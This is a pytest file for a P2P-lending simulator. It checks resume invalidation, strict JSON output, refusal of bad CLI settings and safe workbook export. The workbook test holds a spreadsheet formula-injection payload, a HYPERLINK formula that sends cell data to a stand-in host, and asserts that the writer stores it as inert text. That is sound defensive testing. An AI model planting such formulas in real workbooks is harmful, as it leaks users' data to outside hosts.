"""Hardening III: a resumed result is the result asked for, and every file written is valid."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from sim.cli import main
from sim.experiments import run_experiment
from sim.experiments.store import input_hashes
from sim.scenario.reads import files_read

from .test_bad_input import BASE, EXPERIMENT

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture
def based(tmp_path):
    """An experiment over ``child.toml``, a scenario ``based_on`` the plain ``scenario.toml``."""
    (tmp_path / "scenario.toml").write_text(BASE)
    (tmp_path / "child.toml").write_text('based_on = "scenario.toml"\n[investors]\ncount = 150\n')
    experiment = tmp_path / "experiment.toml"
    experiment.write_text(EXPERIMENT.replace("scenario.toml", "child.toml"))
    return experiment


# ------------------------------------------------------------------ stale resume


def test_the_files_a_run_reads_include_bases_data_user_modules_and_code(tmp_path):
    (tmp_path / "scenario.toml").write_text(BASE)
    (tmp_path / "mid.toml").write_text('based_on = "scenario.toml"\n')
    (tmp_path / "child.toml").write_text('based_on = "mid.toml"\n')
    files = files_read(tmp_path / "child.toml")
    assert files["base scenario (based_on, level 1)"].name == "mid.toml"
    assert files["base scenario (based_on, level 2)"].name == "scenario.toml"
    assert files["p2psim code"] == ROOT / "sim"
    custom = files_read(ROOT / "examples" / "custom_policy.toml")
    assert custom["user module my_policies"] == ROOT / "examples" / "my_policies.py"
    industry = files_read(ROOT / "scenarios" / "thunderstorm_2018.toml")
    assert industry["industry platforms table"].name == "wdzj_platforms.csv"
    assert industry["industry failure hazard"].name == "wdzj_hazard.json"


def test_a_changed_base_is_never_resumed_and_the_refusal_names_it(based, capsys):
    out = based.parent / "exp"
    run_experiment(based, out=out, executor="local", quiet=True)
    kept = {p.name: p.read_bytes() for p in (out / "runs").iterdir()}
    (based.parent / "scenario.toml").write_text(BASE.replace("horizon_days = 30",
                                                             "horizon_days = 40"))
    assert main(["experiment", str(based), "--out", str(out), "--quiet",
                 "--executor", "local"]) == 2
    err = capsys.readouterr().err
    assert "base scenario (based_on, level 1)" in err and "scenario.toml changed" in err
    assert {p.name: p.read_bytes() for p in (out / "runs").iterdir()} == kept
    result = run_experiment(based, out=out, executor="local", quiet=True, overwrite=True)
    assert result["skipped"] == 0  # every run made again, on the new base


def test_a_changed_user_module_or_code_changes_the_key(tmp_path):
    path = tmp_path / "custom.toml"
    path.write_text((ROOT / "examples" / "custom_policy.toml").read_text().replace(
        "my_policies:", "stale_resume_policies:"))
    module = tmp_path / "stale_resume_policies.py"
    shutil.copy(ROOT / "examples" / "my_policies.py", module)
    before = input_hashes(path, path)
    assert before["user module stale_resume_policies"]["path"] == str(module)
    module.write_text(module.read_text() + "\n# the premium changed\n")
    after = input_hashes(path, path)
    changed = {role for role in before if before[role] != after[role]}
    assert changed == {"user module stale_resume_policies"}


def test_a_reserve_study_starts_over_when_its_base_changed_and_says_so(tmp_path, capsys):
    from sim.reserve.request import ReserveRequest, check
    from sim.reserve.study import path_store

    reserve = BASE.replace('name = "p"\n', 'name = "p"\n[platforms.guarantee]\n'
                                          'policy = "reserve_fund"\n')
    (tmp_path / "base.toml").write_text(reserve)
    (tmp_path / "child.toml").write_text('based_on = "base.toml"\n')
    request = ReserveRequest(scenario=str(tmp_path / "child.toml"), paths=4, quiet=True)
    store = path_store(tmp_path / "kept", request, check(request))
    store.write({"run": 0, "status": "ok", "path": 0, "round": 0, "seed": "1", "elapsed_s": 0})
    assert store.done() == {0}
    (tmp_path / "base.toml").write_text(reserve.replace("count = 200", "count = 210"))
    again = path_store(tmp_path / "kept", request, check(request))
    assert again.done() == set()
    assert "base scenario (based_on, level 1)" in again.started_over


# ------------------------------------------------------------------ strict JSON


def strict(text: str):
    """Parse as a strict parser does: NaN and Infinity are not JSON."""
    def refuse(constant):
        raise ValueError(f"{constant} is not JSON")
    return json.loads(text, parse_constant=refuse)


def test_strict_json_writes_null_with_the_reason_and_reads_the_number_back():
    import numpy as np

    from sim import strict_json

    value = {"rate": float("nan"), "runway": [1.0, np.inf], "a/b": {"c": -np.inf},
             "count": np.int64(3), "ok": np.bool_(True)}
    text = strict_json.dumps(value)
    parsed = strict(text)
    assert parsed["rate"] is None and parsed["runway"] == [1.0, None]
    assert parsed["non_finite"] == {"/rate": "NaN", "/runway/1": "Infinity",
                                    "/a~1b/c": "-Infinity"}
    back = strict_json.loads(text)
    assert np.isnan(back["rate"]) and back["runway"][1] == np.inf and back["a/b"]["c"] == -np.inf
    assert back["count"] == 3 and back["ok"] is True and "non_finite" not in back


@pytest.mark.slow  # over 10 s: make test-slow (CI runs it after make test)
def test_every_json_every_command_writes_parses_strictly(tmp_path):
    (tmp_path / "scenario.toml").write_text(BASE)  # 30 days: rates over no defaults are NaN
    reserve = tmp_path / "reserve.toml"
    reserve.write_text(BASE.replace('name = "p"\n', 'name = "p"\n[platforms.guarantee]\n'
                                                    'policy = "reserve_fund"\n'))
    (tmp_path / "experiment.toml").write_text(EXPERIMENT)
    commands = [
        ["run", str(tmp_path / "scenario.toml"), "--out", str(tmp_path / "run")],
        ["experiment", str(tmp_path / "experiment.toml"), "--out", str(tmp_path / "experiment"),
         "--executor", "local"],
        ["reserve", str(reserve), "--paths", "6", "--executor", "local",
         "--out", str(tmp_path / "reserve")],
        ["industry", str(ROOT / "scenarios" / "thunderstorm_2018.toml"), "--out",
         str(tmp_path / "industry"), "--set", "industry.platforms=40",
         "--set", "industry.investors=2000"],
    ]
    for command in commands:
        assert main([*command, "--quiet"]) == 0, command
    written = sorted(tmp_path.rglob("*.json"))
    assert {p.parent.name for p in written} >= {"run", "experiment", "reserve", "industry"}
    nulls = 0
    for path in written:
        document = strict(path.read_text(encoding="utf-8"))
        nulls += isinstance(document, dict) and "non_finite" in document
    assert nulls  # a NaN was there to be written, and was written as null with its reason


# ------------------------------------------------------------------ the workbook


def test_text_in_the_workbook_is_a_value_and_only_p2psims_totals_are_formulas(tmp_path):
    import pandas as pd
    from openpyxl import load_workbook

    from sim.plan.sources import inputs_sheet
    from sim.plan.workbook import Formula, write_workbook
    from sim.scenario import load_scenario

    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    child = tmp_path / "plan.toml"
    child.write_text(f'based_on = "{ROOT / "scenarios" / "seed_business_plan.toml"}"\n'
                     f'[plan.sources]\n"platforms.0.service_fee" = \'{hostile}\'\n'
                     f'"platforms.0.company.vat_rate" = "+1 @SUM(A1) -2"\n')
    scenario = load_scenario(child)
    totals = pd.DataFrame({"Line": ["a", "b", "total"], "Month 1": [1.0, 2.0,
                                                                     Formula("=SUM(B2:B3)")]})
    path = tmp_path / "plan.xlsx"
    write_workbook(path, {"Inputs": (inputs_sheet(scenario), {}), "Totals": (totals, {})},
                   [("scenario", "=1+1"), ("note", "bell\x07 rung")])
    book = load_workbook(path)
    formulas = [(sheet.title, cell.coordinate, cell.value) for sheet in book for row in
                sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == [("Totals", "B4", "=SUM(B2:B3)")]
    texts = {cell.value: cell for row in book["Inputs"].iter_rows() for cell in row}
    assert texts[hostile].data_type == "s" and texts[hostile].quotePrefix
    assert texts["+1 @SUM(A1) -2"].data_type == "s"
    about = {row[0].value: row[1] for row in book["About"].iter_rows()}
    assert about["scenario"].value == "=1+1" and about["scenario"].data_type == "s"
    assert about["note"].value == "bell rung"  # a control character the format cannot hold


# ------------------------------------------------------------------ silently wrong, now refused


@pytest.mark.parametrize("argv, words", [
    (["run", "scenarios/custody_vs_none.toml", "--set",
      "platforms.0.liquidity.capital_call_limit_cny=-0.5"], "0 or more CNY, or -1 for no limit"),
    (["run", "scenarios/custody_vs_none.toml", "--set",
      "platforms.0.liquidity.capital_call_limit_cny=-1e-9"], "0 or more CNY, or -1 for no limit"),
    (["run", "scenarios/guarantor_p2b.toml", "--set",
      "platforms.0.guarantee.unearned_fee_share=0.3"], "owner is 'third_party'"),
    (["industry", "scenarios/seed_plan_in_2018.toml", "--set",
      "platforms.0.industry.launch=2099-01"], "after the industry's start (2017-01)"),
    (["industry", "scenarios/thunderstorm_2018.toml", "--set", "industry.platforms=20", "--set",
      "industry.mean_platforms_per_investor=20"], "cannot be had among 20 platforms"),
    (["industry", "scenarios/seed_plan_in_2018.toml", "--set", "platforms.0.name=industry-3"],
     "how the industry names the platforms it draws"),
    (["run", "scenarios/thunderstorm_2018.toml", "--set", "run.horizon_days=20", "--set",
      "industry.events=[]"], "an industry is recorded month by month"),
    (["run", "scenarios/seed_business_plan.toml", "--set",
      'plan.targets=["revenue_growth[year=1] >= 0.1"]'], "year 1 has none"),
    (["plan", "scenarios/thunderstorm_2018.toml", "--runs", "1", "--set",
      'plan.targets=["net_margin[year=1] >= 0"]'], "a plan's targets are a platform's"),
    (["plan", "scenarios/seed_business_plan.toml", "--runs", "2", "--probability", "0.9"],
     "--probability goes with --solve"),
    (["plan", "scenarios/seed_business_plan.toml", "--runs", "2", "--bracket", "1", "2"],
     "--bracket goes with --solve"),
])
def test_a_setting_that_would_be_ignored_or_misread_is_refused(tmp_path, capsys, argv, words):
    out = tmp_path / "out"
    assert main([argv[0], str(ROOT / argv[1]), *argv[2:], "--out", str(out), "--quiet"]) == 2
    err = capsys.readouterr().err
    assert words in err and "Traceback" not in err
    assert not out.exists()


def test_ctrl_c_in_a_solve_says_how_to_resume(monkeypatch, capsys):
    import sim.plan.solve

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(sim.plan.solve, "run_solve", interrupted)
    assert main(["plan", str(ROOT / "scenarios" / "seed_business_plan.toml"), "--solve",
                 "platforms.0.capital_cny", "--for", "cash_ran_out <= 0", "--quiet"]) == 130
    err = capsys.readouterr().err
    assert "rerun the same command to resume" in err  # its evaluations are kept


@pytest.mark.parametrize("command", [
    ["run", "scenarios/baseline.toml"],
    ["estimate", "estimation/wave_2018.toml"],
    ["reserve", "scenarios/reserve_fund.toml", "--paths", "4"],
])
def test_an_out_that_cannot_be_a_folder_is_refused_by_name(tmp_path, capsys, command):
    (tmp_path / "a").symlink_to(tmp_path / "b")
    (tmp_path / "b").symlink_to(tmp_path / "a")
    for out, reason in ((tmp_path / ("x" * 300), "File name too long"),
                        (tmp_path / "a" / "results", "Symlink loop")):
        assert main([command[0], str(ROOT / command[1]), *command[2:], "--out", str(out),
                     "--quiet"]) == 2
        err = capsys.readouterr().err
        assert "cannot be a folder here" in err and reason in err and "Traceback" not in err
        assert len(err) < 600  # the name shortened, not printed whole


def test_a_reserve_study_with_no_loss_reads_without_nan_and_its_report_is_made(tmp_path, capsys):
    out = tmp_path / "reserve"
    assert main(["reserve", str(ROOT / "scenarios" / "reserve_fund.toml"), "--paths", "6",
                 "--confidence", "0.5", "--executor", "local", "--out", str(out),
                 "--set", "run.horizon_days=60", "--quiet"]) == 0
    printed = capsys.readouterr().out
    assert "nan" not in printed and "nothing to split" in printed
    assert main(["report", str(out), "--out", str(tmp_path / "report.html")]) == 0
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "No loss in the tail" in html and ">+nan<" not in html


def test_a_based_on_base_s_error_is_named_in_the_base_and_a_base_without_platforms_says_so(
        tmp_path, capsys):
    (tmp_path / "base.toml").write_text(BASE.replace('name = "p"', 'name = "p"\nservice_fee = 7.0'))
    (tmp_path / "child.toml").write_text('based_on = "base.toml"\n[investors]\ncount = 60\n')
    (tmp_path / "grandchild.toml").write_text('based_on = "child.toml"\n')
    for name, where in (("child", "(from its base"), ("grandchild", "2 files down")):
        assert main(["run", str(tmp_path / f"{name}.toml"), "--quiet"]) == 2
        err = capsys.readouterr().err
        assert where in err and "base.toml" in err and "line 13" in err, err
        assert "platforms[0].service_fee" in err
    (tmp_path / "empty.toml").write_text('[run]\nname = "e"\n')
    (tmp_path / "changes.toml").write_text('based_on = "empty.toml"\n[platform_changes.0]\n'
                                           'service_fee = 0.01\n')
    assert main(["run", str(tmp_path / "changes.toml"), "--quiet"]) == 2
    err = capsys.readouterr().err
    assert "has no [[platforms]] to change" in err
    assert "-1" not in err.replace(str(tmp_path), "")  # no platform -1 (the path may hold "-1")


@pytest.mark.parametrize("argument, code", [("rate_cap", 2), ("rate_cap=abc", 2),
                                            ("rate_cap=0.3", 0)])
def test_the_contract_check_refuses_bad_parameters_with_exit_2(capsys, argument, code):
    from sim.policies.contract import main as contract

    assert contract(["pricing", "grid", argument]) == code
    err = capsys.readouterr().err
    assert ("error:" in err) == (code == 2) and "Traceback" not in err


def test_an_industry_experiment_keeps_the_industry_s_figures_by_default(tmp_path):
    from sim.experiments.spec import (
        INDUSTRY_STATISTICS,
        MARKET_STATISTICS,
        default_statistics,
        load_experiment,
    )

    assert default_statistics(ROOT / "scenarios" / "baseline.toml", {}) == MARKET_STATISTICS
    assert default_statistics(ROOT / "scenarios" / "thunderstorm_2018.toml",
                              {}) == INDUSTRY_STATISTICS  # no detailed platform: not volume 0
    assert default_statistics(ROOT / "scenarios" / "seed_plan_in_2018.toml",
                              {}) == INDUSTRY_STATISTICS + MARKET_STATISTICS
    path = tmp_path / "experiment.toml"
    path.write_text(f'[experiment]\nname = "e"\nscenario = '
                    f'"{(ROOT / "scenarios" / "thunderstorm_2018.toml").as_posix()}"\n')
    assert load_experiment(path)[0].outputs.statistics == INDUSTRY_STATISTICS
    path.write_text(path.read_text() + '[outputs]\nstatistics = ["volume_cny"]\n')
    assert load_experiment(path)[0].outputs.statistics == ["volume_cny"]  # as the file says
